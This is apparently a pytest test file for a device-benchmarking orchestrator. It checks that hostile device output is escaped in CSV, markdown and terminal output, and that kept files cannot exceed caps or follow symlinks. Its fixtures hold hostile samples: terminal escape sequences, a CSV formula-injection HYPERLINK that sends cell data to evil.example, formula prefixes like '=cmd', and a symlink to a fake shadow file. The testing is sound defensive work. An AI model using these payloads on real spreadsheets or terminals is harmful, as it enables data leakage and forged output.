"""What a device sends back is untrusted: its text never steers an output, its kept files never
reach past their caps or outside its out folder, and nothing measured correctly is lost for it.

Defect 5 (hostile text): a whole `run_suite` over the local transport whose agent is a hostile
one (it reads the real job, writes schema-valid results whose strings are hostile and a hostile
events.jsonl); the rows, results.csv, comparison.md, the progress stream and the console table
are checked. Defect 6 (kept files): the collect path (RunPoller on the local transport) against
real files, a real symlink to a file outside the out folder, and the agent's own keep_artifacts.
"""

import csv
import hashlib
import io
import json
import os
import re
import sys

import pytest
import yaml

import hostile_agent
from agent import schema
from orchestrator import escape, report
from orchestrator.collect import RunPoller
from orchestrator.transport.local import LocalTransport

# -- hostile strings -----------------------------------------------------------------------------

H_TERM = ("\x1b[2J\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07\r[box] -> ok p50 0.001 ms"
          "\n[controller] forged line\x9b31m\u202eevil\x00\x7f")
H_CSV = '=HYPERLINK("http://evil.example/?"&A1,"open")'
H_MD = "broke | the table\n## forged heading\n| x | y |\n"
H_ALL = H_CSV + " " + H_MD + H_TERM
CSV_PREFIXES = ["+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", " =1+1", "\n=cmd"]
HOSTILE = [H_TERM, H_CSV, H_MD, H_ALL] + CSV_PREFIXES

# Terminal output may hold printable text, spaces and line ends between lines only.
TERMINAL_BAD = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
FORMULA_START = tuple("=+-@\t\r")


# -- a hostile agent that reads the real job -----------------------------------------------------

AGENT = r'''
import json, os, sys
golden = json.loads(%(golden)r)
plan = json.loads(%(plan)r)
job_path = sys.argv[sys.argv.index("run") + 1]
out = sys.argv[sys.argv.index("--out") + 1]
with open(job_path) as f:
    job = json.load(f)
os.makedirs(out, exist_ok=True)

def put(name, data):
    with open(os.path.join(out, name + ".tmp"), "wb") as f:
        f.write(data)
    os.rename(os.path.join(out, name + ".tmp"), os.path.join(out, name))

events = []
for i, case in enumerate(job["cases"]):
    doc = json.loads(json.dumps(golden))
    doc.update(case_id=case["case_id"], nonce=job["nonce"], run_id=job["run_id"])
    for key, value in plan["cases"][i].items():
        if isinstance(value, dict) and isinstance(doc.get(key), dict):
            doc[key].update(value)
        else:
            doc[key] = value
    events.append(dict(plan["events"][i], case_id=case["case_id"]))
    events.append({"t": 1.0, "event": "case_end", "case_id": case["case_id"],
                   "status": plan["status_text"], "p50_ms": "x", "index": "x", "total": {}})
    events.append({"t": 1.0, "event": "note", "text": plan["note"]})
    events.append({"t": 1.0, "event": "cooldown", "case_id": "c-nope", "waited_s": "long"})
    put(case["case_id"] + ".json", json.dumps(doc).encode())
put("events.jsonl", "".join(json.dumps(e) + "\n" for e in events).encode())
put("status.json", b'{"state": "done", "exit_code": 0}')
put("done", b"")
'''

# What the device claims per case (merged into the golden ok result).
CASE_CLAIMS = [
    {   # ok, VALID: every identity field renamed, every free-text field hostile
        "label": H_TERM, "reason": H_MD, "hint": H_TERM, "agent_version": "+cmd",
        "device": {"name": "otherdev" + H_TERM, "hostname": H_ALL},
        "model": {"name": H_CSV, "variant": "x|y\nz", "sha256": "@" * 64},
        "runtime": {"backend": "tflite", "threads": 99, "precision": "int8", "affinity": [7],
                    "version": H_CSV, "delegate": "@SUM(A1:A9)", "provider": "-2+3"},
        "delegation": {"ops_total": "=1+1", "ops_delegated": "\t=2"},
    },
    {   # failed, with a hostile reason and hint
        "status": "failed", "substatus": "error", "timing": None, "validity": None,
        "reason": H_ALL, "hint": H_ALL, "label": H_CSV, "model": {"name": H_MD},
    },
    {   # ok but INVALID: hostile validity reasons
        "validity": {"status": "INVALID", "reasons": [H_ALL, "=1+1"], "notes": [H_TERM]},
        "label": H_MD, "runtime": {"version": H_TERM},
    },
]
EVENT_CLAIMS = [
    {"t": 1.0, "event": "case_start", "label": H_TERM, "index": "x", "total": "y"},
    {"t": 1.0, "event": "case_start", "label": H_CSV, "index": 1, "total": 3},
    {"t": 1.0, "event": "case_start", "label": H_MD, "index": None, "total": None},
]

SUITE = {
    "name": "hostile", "settings": {"warmup_runs": 1, "warmup_min_s": 0.0, "runs": 20,
                                    "min_duration_s": 0.1, "max_duration_s": 5,
                                    "case_timeout_s": 60},
    "cooldown": {"mode": "none", "seconds": 0},
    "models": [{"name": "spin", "synthetic_ms": 0.2}],
    "matrix": [{"runtime": "synthetic", "threads": [1, 2, 3]}],
}


def write_hostile_agent(folder):
    with open(hostile_agent.GOLDEN_OK) as f:
        golden = f.read()
    plan = {"cases": CASE_CLAIMS, "events": EVENT_CLAIMS, "status_text": H_TERM, "note": H_TERM}
    path = os.path.join(str(folder), "agent.py")
    with open(path, "w") as f:
        f.write(AGENT % {"golden": golden, "plan": json.dumps(plan)})
    with open(path, "rb") as f:
        return path, hashlib.sha256(f.read()).hexdigest()


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """One run_suite against the hostile agent: (summary, job, progress text, golden doc)."""
    from orchestrator import deploy
    from orchestrator.run import Progress, run_suite
    tmp = tmp_path_factory.mktemp("hostile_run")
    suite = tmp / "suite.yaml"
    suite.write_text(yaml.safe_dump(SUITE, sort_keys=False))
    inv = tmp / "inv.yaml"
    inv.write_text(yaml.safe_dump({"devices": {"box": {
        "transport": "local", "python": sys.executable, "workdir": str(tmp / "wd")}}}))
    agent = write_hostile_agent(tmp)
    stream = io.StringIO()
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(deploy, "local_agent", lambda: agent)
        summary = run_suite(suite, [inv], results_dir=tmp / "results",
                            progress=Progress(stream))
    with open(str(tmp / "wd" / "runs" / summary.run_id / "job.json")) as f:
        job = json.load(f)
    with open(hostile_agent.GOLDEN_OK) as f:
        golden = json.load(f)
    return summary, job, stream.getvalue(), golden


def test_hostile_result_strings_keep_every_measured_row(hostile_run):
    summary, job, _, golden = hostile_run
    rows = summary.rows
    assert [(r["status"], r["validity"]) for r in rows] == [
        ("ok", "VALID"), ("failed", None), ("ok", "INVALID")]
    for i in (0, 2):
        assert rows[i]["p50_ms"] == golden["timing"]["summary"]["p50"]
        assert rows[i]["runs"] == golden["timing"]["runs"]
    assert not summary.device_errors


def test_identity_fields_come_from_the_job_not_the_device(hostile_run):
    summary, job, _, _ = hostile_run
    for row, case in zip(summary.rows, job["cases"]):
        assert row["device"] == "box"
        assert row["case_id"] == case["case_id"]
        assert row["label"] == case["label"]
        assert row["model"] == case["model"]["name"] == "spin"
        assert row["variant"] == case["model"]["variant"]
        assert row["model_sha256"] == case["model"]["sha256"]
        assert row["backend"] == case["runtime"]["backend"] == "synthetic"
        assert row["threads"] == case["runtime"]["threads"]
        assert row["precision"] == case["runtime"]["precision"]
        assert row["affinity"] == report._cores(case["runtime"]["affinity"])
    # What the device measured and said about itself stays (escaped on output, not dropped).
    assert summary.rows[0]["runtime_version"] == H_CSV
    assert summary.rows[1]["reason"] == H_ALL


def test_results_csv_neutralises_formulas_and_control_characters(hostile_run):
    summary, _, _, golden = hostile_run
    text = (summary.run_dir / "results.csv").read_text()
    assert "\x1b" not in text and "\x9b" not in text and "\r" not in text
    with open(summary.run_dir / "results.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == 3
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(FORMULA_START), (column, value)
            assert not value.lstrip().startswith(FORMULA_START), (column, value)
    assert rows[0]["runtime_version"] == "'" + H_CSV
    assert rows[0]["delegate"] == "'@SUM(A1:A9)" and rows[0]["provider"] == "'-2+3"
    assert rows[0]["ops_total"] == "'=1+1" and rows[0]["agent_version"] == "'+cmd"
    assert rows[1]["reason"].startswith("'=HYPERLINK(")
    assert float(rows[0]["p50_ms"]) == golden["timing"]["summary"]["p50"]


def test_comparison_md_table_cannot_be_broken_or_extended(hostile_run):
    summary, job, _, _ = hostile_run
    text = (summary.run_dir / "comparison.md").read_text()
    assert TERMINAL_BAD.search(text) is None
    lines = text.splitlines()
    table = [l for l in lines if l.startswith("|")]
    assert len(table) == 2 + len(job["cases"])
    assert all(len(re.findall(r"(?<!\\)\|", l)) == 3 for l in table), table  # case + box
    assert [l for l in lines if l.startswith("#")] == ["# benchfleet run %s" % summary.run_id,
                                                        "## Notes", "## Figures"]
    notes = lines[lines.index("## Notes") + 2:lines.index("## Figures") - 1]
    assert len(notes) == 3 and all(l.startswith("- box, ") for l in notes), notes
    figures = [l for l in lines[lines.index("## Figures") + 1:] if l.startswith("- ")]
    assert figures and all(l.startswith("- box, ") for l in figures), figures
    assert "\\| the table" in text and "## forged heading" in text   # escaped, still readable


def test_progress_and_console_show_no_control_characters_or_forged_lines(hostile_run):
    from orchestrator.run import render_summary
    summary, job, progress, _ = hostile_run
    lines = progress.splitlines()
    assert lines and all(re.match(r"^\[(box|controller)\] ", l) for l in lines), lines
    assert TERMINAL_BAD.search(progress.replace("\n", "")) is None
    starts = [l for l in lines if " case " in l[:12]]
    assert [l.split(" ", 3)[3] for l in starts] == [c["label"] for c in job["cases"]]
    console = render_summary(summary)
    assert TERMINAL_BAD.search(console.replace("\n", "")) is None
    assert not [l for l in console.splitlines() if l.startswith(("[", "#", "|"))]


@pytest.mark.parametrize("text", HOSTILE)
def test_each_escape_neutralises_each_hostile_string(text):
    term = escape.terminal(text)
    assert TERMINAL_BAD.search(term) is None and "\n" not in term
    cell = escape.csv_cell(text)
    assert not cell.lstrip().startswith(FORMULA_START) and "\x1b" not in cell
    md = escape.markdown(text)
    assert "\n" not in md and "\r" not in md and not re.search(r"(?<!\\)\|", md)
    assert TERMINAL_BAD.search(md) is None


def test_escapes_leave_ordinary_text_alone():
    label = "movenet-lightning/tflite-int8 t2 xnnpack=false"
    assert escape.terminal(label) == label
    assert escape.csv_cell(label) == label
    assert escape.markdown(label) == label
    assert escape.csv_cell("agent.log tail:\nline 2") == "agent.log tail:\nline 2"


# -- defect 6: kept files ------------------------------------------------------------------------

def golden_doc(case_id, job):
    with open(hostile_agent.GOLDEN_OK) as f:
        doc = json.load(f)
    doc.update(case_id=case_id, nonce=job["nonce"], run_id=job["run_id"])
    return doc


def make_poller(tmp_path, case_ids=("c-1",), nonce=None, run_id="r1", seen=None):
    run_dir, raw = tmp_path / "run", tmp_path / "raw"
    (run_dir / "out").mkdir(parents=True, exist_ok=True)
    raw.mkdir(exist_ok=True)
    job = {"nonce": nonce or os.urandom(8).hex(), "run_id": run_id,
           "cases": [{"case_id": c, "settings": {}} for c in case_ids]}
    seen = seen if seen is not None else []
    poller = RunPoller(LocalTransport("dev"), job, str(run_dir), str(raw),
                       lambda cid, doc, problems: seen.append((cid, doc, problems)),
                       lambda name, ev: seen.append(("event", ev, None)), 60, 60)
    return poller, run_dir / "out", raw, job, seen


def collect_all(poller):
    poller._collect(set(poller.t.listdir(poller.out)))


def test_kept_files_past_the_per_case_caps_are_refused_and_the_row_says_so(tmp_path):
    poller, out, raw, job, seen = make_poller(tmp_path)
    doc = golden_doc("c-1", job)
    names = {}
    for i in range(30):
        name = "c-1.prof%02d.json" % i
        (out / name).write_bytes(os.urandom(2 << 20))
        names["prof%02d.json" % i] = name
    doc["environment"]["artifacts"] = names
    (out / "c-1.json").write_text(json.dumps(doc))
    collect_all(poller)
    [(cid, got, problems)] = [s for s in seen if s[0] == "c-1"]
    assert problems == [] and got["status"] == "ok"
    assert got["timing"]["summary"]["p50"] == doc["timing"]["summary"]["p50"]
    fetched = sorted(p.name for p in raw.iterdir() if p.name != "c-1.json")
    assert 0 < len(fetched) <= schema.MAX_KEPT_FILES
    assert sum((raw / n).stat().st_size for n in fetched) <= schema.MAX_KEPT_BYTES
    for name in fetched:
        assert (raw / name).read_bytes() == (out / name).read_bytes()
    assert "kept file" in got["reason"] and "refused" in got["reason"]
    refused = got["environment"]["artifacts_refused"]
    assert len(refused) + len(fetched) == 30
    assert set(got["environment"]["artifacts"].values()) == set(fetched)


def test_a_symlinked_kept_file_is_never_followed(tmp_path):
    secret = tmp_path / "shadow"
    secret.write_text("root:$6$secret-hash:19000:0:99999:7:::\n")
    poller, out, raw, job, seen = make_poller(tmp_path)
    os.symlink(str(secret), str(out / "c-1.profile.json"))
    (out / "c-1.trace.json").write_text("[1]")
    os.mkdir(str(out / "c-1.folder"))
    doc = golden_doc("c-1", job)
    doc["environment"]["artifacts"] = {"profile.json": "c-1.profile.json",
                                       "trace.json": "c-1.trace.json", "dir": "c-1.folder",
                                       "self": "c-1.json", "nl": "c-1.x\n", "gone": "c-1.gone"}
    (out / "c-1.json").write_text(json.dumps(doc))
    collect_all(poller)
    [(cid, got, problems)] = [s for s in seen if s[0] == "c-1"]
    assert problems == [] and got["status"] == "ok"
    assert sorted(p.name for p in raw.iterdir()) == ["c-1.json", "c-1.trace.json"]
    assert json.loads((raw / "c-1.json").read_text()) == doc   # the raw result, untouched
    for p in raw.iterdir():
        assert not p.is_symlink() and "secret-hash" not in p.read_text()
    refused = got["environment"]["artifacts_refused"]
    assert "not a regular file" in refused["profile.json"]
    assert "not a regular file" in refused["dir"]
    assert set(refused) == {"profile.json", "dir", "self", "nl", "gone"}
    assert "c-1.profile.json" in got["reason"]
    notes = [ev["text"] for kind, ev, _ in seen if kind == "event"]
    assert any("c-1.profile.json" in n and "refused" in n for n in notes), notes


def test_kept_files_share_one_byte_budget_per_run(tmp_path, monkeypatch):
    monkeypatch.setattr(schema, "MAX_KEPT_RUN_BYTES", 3 << 20)
    seen, shared = [], os.urandom(8).hex()
    pollers = [make_poller(tmp_path / d, case_ids=("c-1", "c-2"), nonce=shared, run_id="r9",
                           seen=seen) for d in ("dev1", "dev2")]
    for poller, out, raw, job, _ in pollers:
        for cid in ("c-1", "c-2"):
            (out / (cid + ".p")).write_bytes(b"x" * (1 << 20))
            doc = golden_doc(cid, job)
            doc["environment"]["artifacts"] = {"p": cid + ".p"}
            (out / (cid + ".json")).write_text(json.dumps(doc))
        collect_all(poller)
    kept = [p for _, _, raw, _, _ in pollers for p in raw.iterdir() if p.suffix == ".p"]
    assert len(kept) == 3
    results = [s for s in seen if s[0] != "event"]
    assert len(results) == 4 and all(s[1]["status"] == "ok" and not s[2] for s in results)
    assert sum("per-run" in (s[1]["reason"] or "") for s in results) == 1


def test_the_agent_never_keeps_a_symlink_or_an_oversized_file(tmp_path):
    from agent import worker
    secret = tmp_path / "secret"
    secret.write_text("private")
    good = tmp_path / "good.json"
    good.write_text("[1]")
    big = tmp_path / "big.bin"
    big.write_bytes(b"x" * (schema.MAX_KEPT_BYTES + 1))
    link = tmp_path / "link.json"
    os.symlink(str(secret), str(link))
    out = tmp_path / "out"
    out.mkdir()
    # A link planted at the target name is replaced, never written through.
    os.symlink(str(secret), str(out / "c-1.good.json"))

    class Backend:
        artifacts = {"good.json": str(good), "big.bin": str(big), "link.json": str(link),
                     "dir": str(tmp_path)}
    kept, refused = worker.keep_artifacts(Backend(), str(out), "c-1", with_refused=True)
    assert kept == {"good.json": "c-1.good.json"}
    assert set(refused) == {"big.bin", "link.json", "dir"}
    assert "symbolic link" in refused["link.json"] or "regular" in refused["link.json"]
    assert "bytes" in refused["big.bin"]
    assert sorted(os.listdir(str(out))) == ["c-1.good.json"]
    assert not (out / "c-1.good.json").is_symlink()
    assert (out / "c-1.good.json").read_text() == "[1]" and secret.read_text() == "private"


def test_the_agent_keeps_at_most_max_kept_files(tmp_path):
    from agent import worker
    files = {}
    for i in range(schema.MAX_KEPT_FILES + 3):
        path = tmp_path / ("f%d" % i)
        path.write_text("x")
        files["f%d" % i] = str(path)
    out = tmp_path / "out"
    out.mkdir()

    class Backend:
        artifacts = files
    kept, refused = worker.keep_artifacts(Backend(), str(out), "c-1", with_refused=True)
    assert len(kept) == schema.MAX_KEPT_FILES and len(refused) == 3
    assert all("at most" in why for why in refused.values())
